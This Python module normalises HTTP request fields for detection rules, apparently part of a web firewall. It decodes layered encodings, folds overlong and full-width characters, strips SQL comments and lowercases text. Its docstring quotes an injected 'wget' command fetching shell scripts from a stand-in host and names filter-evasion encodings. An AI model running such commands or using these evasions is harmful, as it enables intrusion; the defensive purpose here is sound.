"""Normalisation of request fields before rules run: the reference implementation.

Attackers hide payloads behind encodings; rules are written once, against the decoded,
folded text this module defines. ``kernels.normalise_fields`` is the fast (numba) twin
used on the hot path; a property test keeps the two byte-for-byte equal.

Steps, in order:
1. Up to ``DECODE_ROUNDS`` decoding rounds, left to right, until a round changes nothing:
   ``%uHHHH``, ``%HH``, ``\\xHH`` (nginx's escape), ``\\"`` and ``\\\\`` (Apache's
   escapes), HTML character references ``&#DDD;``/``&#xHH;`` (``;`` optional) and
   ``&lt; &gt; &quot; &apos; &amp;``. Code points above ASCII become UTF-8; invalid
   ones become ``?``.
2. Overlong UTF-8 forms of ASCII (``%c0%af`` for ``/``) and full-width ASCII
   (U+FF01..U+FF5E) fold to plain ASCII.
3. SQL comments: ``/*!50000`` (MySQL's executable comment) and ``*/`` become a space,
   other ``/* ... */`` become one space, unless their body holds a ``/``: then the ``/*``
   is a path glob (``/tmp/*;wget http://x/*.sh``), not a comment, and stays.
4. ASCII lower case; ``+``, ``\\``, tabs, line breaks, vertical tab, form feed and
   no-break space become a space or ``/``; runs of spaces collapse to one.
"""

from __future__ import annotations

import re

DECODE_ROUNDS = 3

_ESCAPE = re.compile(
    rb"%u([0-9a-f]{4})|%([0-9a-f]{2})|\\x([0-9a-f]{2})|\\([\"\\])"
    rb"|&#x([0-9a-f]{1,6});?|&#([0-9]{1,7});?|&(lt|gt|quot|apos|amp);",
    re.IGNORECASE,
)
_NAMED = {b"lt": b"<", b"gt": b">", b"quot": b'"', b"apos": b"'", b"amp": b"&"}
_OVERLONG = re.compile(
    rb"[\xc0\xc1][\x80-\xbf]|\xe0[\x80\x81][\x80-\xbf]|\xef\xbc[\x81-\xbf]|\xef\xbd[\x80-\x9e]"
)
_COMMENT = re.compile(rb"/\*![0-9]*|/\*[^/]*?\*/|\*/")
_SPACES = re.compile(rb" {2,}")
_FOLD = bytes.maketrans(b"+\\\t\n\r\x0b\x0c\xa0", b" /      ")


def encode_code_point(cp: int) -> bytes:
    if cp > 0x10FFFF or 0xD800 <= cp <= 0xDFFF:
        return b"?"
    return chr(cp).encode("utf-8")


def _unescape(match: re.Match[bytes]) -> bytes:
    u, pct, bsx, bsq, hexref, decref, named = match.groups()
    if u is not None:
        return encode_code_point(int(u, 16))
    if pct is not None:
        return bytes((int(pct, 16),))
    if bsx is not None:
        return bytes((int(bsx, 16),))
    if bsq is not None:
        return bytes(bsq)
    if hexref is not None:
        return encode_code_point(int(hexref, 16))
    if decref is not None:
        return encode_code_point(int(decref))
    return _NAMED[bytes(named).lower()]


def _fold_overlong(match: re.Match[bytes]) -> bytes:
    raw = match.group()
    if raw[0] in (0xC0, 0xC1):
        return bytes((((raw[0] & 0x01) << 6) | (raw[1] & 0x3F),))
    if raw[0] == 0xE0:
        return bytes((((raw[1] & 0x3F) << 6) | (raw[2] & 0x3F),))
    cp = ((raw[1] & 0x3F) << 6) | (raw[2] & 0x3F) | 0xF000
    return bytes((cp - 0xFEE0,))


def decode(raw: bytes) -> bytes:
    text = raw
    for _ in range(DECODE_ROUNDS):
        decoded, changes = _ESCAPE.subn(_unescape, text)
        text = decoded
        if not changes:
            break
    return _OVERLONG.sub(_fold_overlong, text)


def normalise(raw: bytes) -> bytes:
    """The text rules are matched against, from one raw field as it was logged."""
    text = _COMMENT.sub(b" ", decode(raw))
    text = text.replace(b"\xc2\xa0", b" ").lower().translate(_FOLD)
    return _SPACES.sub(b" ", text)
